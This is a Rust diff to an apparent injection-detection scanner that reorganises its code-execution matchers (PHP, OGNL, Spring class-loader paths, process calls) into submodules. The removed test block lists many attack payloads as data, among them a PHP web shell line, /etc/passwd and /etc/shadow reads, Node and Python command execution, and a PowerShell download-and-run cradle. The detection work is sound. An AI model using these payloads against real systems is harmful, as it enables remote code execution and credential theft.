@@ -10,6 +10,12 @@
 //! Code that stays within the application's own functions. In texts of several lines, which may
 //! be somebody's program, most chains only alert.
 
+mod java;
+mod php;
+mod script;
+#[cfg(test)]
+mod tests;
+
 use super::{CodeMatcher, Match, call};
 use crate::lexer::expression::{Lexer, Token};
 use crate::rule::Confidence::{self, Certain, Likely, Weak};
@@ -17,9 +23,9 @@ use crate::rule::Confidence::{self, Certain, Likely, Weak};
 /// A chain of calls that leaves the language.
 pub(super) static CALL: CodeMatcher = CodeMatcher { name: "code_call", find: code_call };
 /// A command handed to the result of an expression: `('sys'.'tem')('id')`.
-pub(super) static INDIRECT_CALL: CodeMatcher = CodeMatcher { name: "code_indirect_call", find: indirect_call };
+pub(super) static INDIRECT_CALL: CodeMatcher = CodeMatcher { name: "code_indirect_call", find: php::indirect_call };
 /// A path of properties to the class loader, as a parameter's name.
-pub(super) static PROPERTY_PATH: CodeMatcher = CodeMatcher { name: "code_property_path", find: property_path };
+pub(super) static PROPERTY_PATH: CodeMatcher = CodeMatcher { name: "code_property_path", find: java::property_path };
 
 type Finding = (Confidence, &'static str);
 
@@ -36,7 +42,7 @@ fn code_call(value: &[u8]) -> Option<Match> {
     if let Some(confidence) = endless_loop(value) {
         return Some(Match::new(confidence, 0..value.len(), LOOPS));
     }
-    let mut best: Option<Match> = php_tag(value)
+    let mut best: Option<Match> = php::php_tag(value)
         .map(|(start, confidence)| Match::new(most(confidence), start..value.len(), "a PHP tag, which begins code"));
     // The first quote may end a string of the code around the value instead of beginning one.
     let inside = memchr::memchr2(b'\'', b'"', value).map(|quote| quote + 1);
@@ -62,7 +68,7 @@ fn calls_from(value: &[u8], from: usize) -> Option<Match> {
         let found = match token {
             Token::Name(name) => name_step(value, name, before, &lexer, start)
                 .or_else(|| name_step(value, lower_case(name, &mut buffer)?, before, &lexer, start)),
-            Token::Mark(b'#' | b'@') => ognl(value, token, before, &lexer),
+            Token::Mark(b'#' | b'@') => java::ognl(value, token, before, &lexer),
             Token::Text(b"__import__" | b"__builtins__") if before[2] == Some(Token::Mark(b'[')) => {
                 Some((Certain, REACHES))
             }
@@ -104,9 +110,8 @@ fn name_step<'a>(
         b"process" if dotted && matches!(before[1], Some(Token::Name(b"global" | b"globalThis" | b"root"))) => {
             (lexer.ahead(0) == Some(Token::Mark(b'.')) && !is_environment(lexer.ahead(1))).then_some((Certain, REACHES))
         }
-        b"exit" | b"kill" if called && receiver == Some(Token::Name(b"process")) => {
-            let alone =
-                value.starts_with(b"process") && value.len() < 32 && !matches!(argument, Some(Token::Mark(b'[')));
+        b"exit" | b"_exit" | b"abort" | b"fork" | b"halt" | b"kill" if called && is_process(receiver) => {
+            let alone = stands_first(value, receiver) && !matches!(argument, Some(Token::Mark(b'[')));
             Some((if alone || breaks_out(value, start) { Certain } else { Weak }, REACHES))
         }
         b"constructor" | b"Function" if called => constructor(name, receiver, argument),
@@ -133,7 +138,7 @@ fn name_step<'a>(
         {
             matches!(argument, Some(Token::Text(function)) if call::runs_commands(function)).then_some((Certain, RUNS))
         }
-        b"print" | b"print_r" | b"echo" | b"die" | b"var_dump" | b"printf" | b"exit" => probe(lexer),
+        b"print" | b"print_r" | b"echo" | b"die" | b"var_dump" | b"printf" | b"exit" => php::probe(lexer),
         b"phpinfo" if called && argument == Some(Token::Mark(b')')) && stands_alone(value, start) => {
             Some((Certain, REACHES))
         }
@@ -164,14 +169,20 @@ fn name_step<'a>(
             let code = skip(lexer, 1).take(6).any(|token| matches!(token, Token::Text(code) if reaches_out(code)));
             code.then_some((Certain, EVALUATES))
         }
-        b"popen" if called && receiver == Some(Token::Name(b"IO")) => Some((Certain, RUNS)),
-        b"x" if before[2] == Some(Token::Mark(b'%')) && lexer.ahead(0) == Some(Token::Mark(b'{')) => {
-            (call::is_command(lexer.ahead(1)) && lexer.ahead(2) == Some(Token::Mark(b'}'))).then_some((Certain, RUNS))
-        }
-        b"x" if before[2] == Some(Token::Mark(b'%')) && called => call::is_command(argument).then_some((Certain, RUNS)),
         _ if called && call::runs_commands(name) => runs(name, receiver, argument, lexer),
         _ => None,
     }
+    .or_else(|| script::step(value, name, before, lexer))
+}
+
+/// What stands for the running program: Ruby's, Python's, Node's and Java's names of it.
+const fn is_process(receiver: Option<Token<'_>>) -> bool {
+    matches!(receiver, Some(Token::Name(b"process" | b"Process" | b"Kernel" | b"sys" | b"os" | b"System" | b"Runtime")))
+}
+
+/// The value begins with the receiver and holds little more than the call.
+fn stands_first(value: &[u8], receiver: Option<Token<'_>>) -> bool {
+    matches!(receiver, Some(Token::Name(name)) if value.starts_with(name)) && value.len() < 32
 }
 
 fn skip<'a>(lexer: &Lexer<'a>, count: usize) -> Lexer<'a> {
@@ -330,110 +341,6 @@ fn lower_case<'b>(name: &[u8], buffer: &'b mut [u8; 24]) -> Option<&'b [u8]> {
     Some(lower)
 }
 
-/// `(..)('id')`: what a name in pieces, or a variable, is called with.
-fn indirect_call(value: &[u8]) -> Option<Match> {
-    for open in memchr::memchr_iter(b'(', value) {
-        if open == 0 || !matches!(value.get(open - 1), Some(b')' | b'\'' | b'"')) {
-            continue;
-        }
-        let lexer = Lexer::at(value, open + 1);
-        let argument = lexer.ahead(0);
-        if !call::is_command(argument) || lexer.ahead(1) != Some(Token::Mark(b')')) {
-            continue;
-        }
-        let before = value.get(open.saturating_sub(48)..open - 1).unwrap_or_default();
-        let quoted = before.iter().any(|&byte| matches!(byte, b'\'' | b'"'));
-        let named = value.get(open - 1) == Some(&b')') && called_name(before);
-        let text = matches!(argument, Some(Token::Text(_)));
-        if named
-            || text
-                && quoted
-                && FUNCTION_PIECES.iter().any(|piece| memchr::memmem::find(before, piece.as_bytes()).is_some())
-        {
-            return Some(Match::new(Certain, open..value.len(), RUNS));
-        }
-    }
-    None
-}
-
-/// What is left of `system`, `exec`, `passthru` when it is written in two pieces.
-const FUNCTION_PIECES: [&str; 6] = ["sys", "tem", "exec", "pass", "popen", "assert"];
-
-/// `(system)`, `(sys.(te).m)`: the parenthesis holds a name of a function, dots left out.
-fn called_name(before: &[u8]) -> bool {
-    let start =
-        before.iter().rposition(|byte| !byte.is_ascii_alphanumeric() && !b"_.()".contains(byte)).map_or(0, |at| at + 1);
-    let mut name = [0_u8; 24];
-    let letters = before.get(start..).unwrap_or_default().iter().filter(|byte| !b".()".contains(byte));
-    let length = name.iter_mut().zip(letters).map(|(slot, &byte)| *slot = byte).count();
-    name.get(..length).is_some_and(call::runs_commands)
-}
-
-/// `print(md5(1))`, `echo md5('x')`: a scanner looks for the digest in the answer.
-fn probe(lexer: &Lexer<'_>) -> Option<Finding> {
-    let open = usize::from(lexer.ahead(0) == Some(Token::Mark(b'(')));
-    let digest = matches!(
-        lexer.ahead(open),
-        Some(Token::Name(b"md5" | b"sha1" | b"crc32" | b"base64_decode" | b"phpversion" | b"php_uname"))
-    );
-    let constant = matches!(lexer.ahead(open + 2), Some(Token::Text(_) | Token::Number(_) | Token::Mark(b')')));
-    (digest && constant && lexer.ahead(open + 1) == Some(Token::Mark(b'('))).then_some((Certain, PROBES))
-}
-
-/// OGNL: `#_memberAccess`, `(#x=..)`, `@java.lang.Runtime@getRuntime`.
-fn ognl(value: &[u8], mark: Token<'_>, before: [Option<Token<'_>>; 3], lexer: &Lexer<'_>) -> Option<Finding> {
-    if mark == Token::Mark(b'#') {
-        let Some(Token::Name(name)) = lexer.ahead(0) else { return None };
-        let internal = matches!(name, b"_memberAccess" | b"_memberaccess" | b"xwork");
-        let start = lexer.offset().saturating_sub(1);
-        let adjacent = start > 0 && value.get(start - 1..start + 1) == Some(b"(#");
-        let assigned = adjacent && lexer.ahead(1) == Some(Token::Mark(b'='));
-        let context = matches!(name, b"context" | b"attr" | b"request" | b"dm" | b"application") && assigned;
-        let chained = assigned && matches!(before[1], Some(Token::Mark(b'{' | b'.')));
-        let taken = name == b"context"
-            && lexer.ahead(1) == Some(Token::Mark(b'['))
-            && matches!(lexer.ahead(2), Some(Token::Text(_)));
-        return (internal || context || chained || taken).then_some((Certain, REACHES));
-    }
-    if !call::named(lexer) && lexer.ahead(0) != Some(Token::Name(b"ognl")) {
-        return None;
-    }
-    let mut copy = *lexer;
-    let class = copy.by_ref().take(16).find(|token| !matches!(token, Token::Name(_) | Token::Mark(b'.')));
-    (class == Some(Token::Mark(b'@')) && matches!(copy.next(), Some(Token::Name(_)))).then_some((Certain, REACHES))
-}
-
-/// `<?php`, `<?=`, with something behind it that a page does not do by chance.
-fn php_tag(value: &[u8]) -> Option<(usize, Confidence)> {
-    let start = memchr::memmem::find(value, b"<?")?;
-    let rest = value.get(start + 2..)?;
-    let rest = rest.get(..1024).unwrap_or(rest);
-    let named = rest.get(..3).is_some_and(|tag| tag.eq_ignore_ascii_case(b"php"));
-    let short = rest.first() == Some(&b'=');
-    if !named && !short {
-        return None;
-    }
-    let acts = [
-        "$_GET",
-        "$_POST",
-        "$_REQUEST",
-        "$_COOKIE",
-        "eval(",
-        "system(",
-        "exec(",
-        "passthru(",
-        "phpinfo(",
-        "base64_decode(",
-        "assert(",
-        "file_get_contents(",
-        "file_put_contents(",
-        "popen(",
-        "`",
-    ];
-    let found = acts.iter().any(|act| memchr::memmem::find(rest, act.as_bytes()).is_some());
-    Some((start, if found { Certain } else { Likely }))
-}
-
 /// `while(1){}`, `for(;;){}` as the whole value, up to quotes and closing marks.
 fn endless_loop(value: &[u8]) -> Option<Confidence> {
     let junk = |byte: &u8| byte.is_ascii_whitespace() || b"'\";)}/+".contains(byte);
@@ -462,123 +369,4 @@ fn stands_alone(value: &[u8], start: usize) -> bool {
     let near = value.get(start.saturating_sub(100)..value.len().min(start + 100)).unwrap_or_default();
     let word = |word: &&[u8]| word.len() > 1 && word.iter().all(u8::is_ascii_alphabetic);
     near.split(u8::is_ascii_whitespace).filter(word).count() < 3
-}
-
-/// `class.module.classLoader.resources..`: what Spring binds parameters to (CVE-2022-22965).
-fn property_path(value: &[u8]) -> Option<Match> {
-    let start = memchr::memmem::find(value, b"lass")?;
-    let mut lexer = Lexer::at(value, start.checked_sub(1)?);
-    if !matches!(lexer.next()?, Token::Name(b"class" | b"Class")) {
-        return None;
-    }
-    for _ in 0..8 {
-        match lexer.next()? {
-            Token::Name(b"module") | Token::Text(b"module") | Token::Mark(b'.' | b'[' | b']') => {}
-            Token::Name(b"classLoader" | b"protectionDomain") | Token::Text(b"classLoader" | b"protectionDomain") => {
-                let more = matches!(lexer.next(), Some(Token::Mark(b'.' | b'[' | b']' | b'=')) | None);
-                return more
-                    .then(|| Match::new(Certain, start - 1..value.len(), "a path of properties to the class loader"));
-            }
-            _ => return None,
-        }
-    }
-    None
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn confidence(value: &str) -> Option<Confidence> {
-        let found = [code_call, indirect_call, property_path].into_iter().filter_map(|find| find(value.as_bytes()));
-        found.map(|found| found.confidence).max()
-    }
-
-    #[test]
-    fn code_that_reaches_the_system_is_certain() {
-        for value in [
-            ";system('id')",
-            ";system(\"cat /etc/passwd\");//",
-            "';phpinfo();//",
-            "${@print(md5(1))}",
-            "echo md5('x');",
-            "eval(base64_decode('cGhwaW5mbygpOw=='))",
-            "<?php system($_GET['c']); ?>",
-            "<?=`id`?>",
-            "assert($_POST['x'])",
-            "call_user_func('system','id')",
-            "(system)('id')",
-            "('sys'.'tem')('id')",
-            "system(whoami)",
-            "SYSTEM('id')",
-            "PhpInfo();",
-            "(sys.(te).m)(whoami)",
-            "require('child_process').exec('id')",
-            "require(\"child_process\").execSync('ls').toString()",
-            "global.process.mainModule.require('child_process')",
-            "process.binding('spawn_sync')",
-            "this.constructor.constructor('return process')()",
-            "res.end(require('fs').readFileSync('/etc/passwd'))",
-            "res.end(require('fs').readdirSync('.').toString())",
-            "';process.exit();//",
-            "while(1){}",
-            "';while(true){};'",
-            "eval(String.fromCharCode(97,108))",
-            "T(java.lang.Runtime).getRuntime().exec('id')",
-            "new java.lang.ProcessBuilder({'id'}).start()",
-            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
-            "new javax.script.ScriptEngineManager().getEngineByName('js')",
-            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
-            "class['module']['classLoader']",
-            "__import__('os').system('id')",
-            "os.system('cat /etc/shadow')",
-            "subprocess.check_output(['id'])",
-            "eval(compile('x','y','exec'))",
-            "exec('import os')",
-            "open('/etc/passwd').read()",
-            "IO.popen('id').read",
-            "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
-            "file_get_contents('/etc/passwd')",
-        ] {
-            assert_eq!(confidence(value), Some(Certain), "{value}");
-        }
-    }
-
-    #[test]
-    fn source_code_and_prose_are_not() {
-        for value in [
-            "const fs = require('fs');",
-            "const { exec } = require('child_process');",
-            "import os, sys",
-            "import subprocess",
-            "the system (id 5) is down",
-            "call phpinfo() to see the version",
-            "const m = /x/.exec('ls')",
-            "re.exec(line)",
-            "eval(code) is evil",
-            "print('hello')",
-            "while (i < 10) { i += 1 }",
-            "for (;;) { work(); }",
-            "use std::process::Command; Command::new(\"ls\")",
-            "class Loader { }",
-            "first class. module one",
-            "public class Main { public static void main(String[] a) {} }",
-            "process.env.HOME",
-            "global.process.env.NODE_ENV",
-            "open('report.txt').read()",
-            "assert(x == 1)",
-            "spawn(move || work())",
-            "(function () { return 1; })()",
-            "#include <stdio.h>",
-            "issue #12 (see #x)",
-            "ann@example.org and bob@java.example",
-            "system(s) and exec(utive) roles",
-            "<?xml version=\"1.0\"?>",
-            "(see above) (id 5) and ('x')('y')",
-            "$('#a')('ls')",
-            "function (x) { return new Function(x) }",
-        ] {
-            assert!(confidence(value) < Some(Certain), "{value} {:?}", code_call(value.as_bytes()));
-        }
-    }
 }
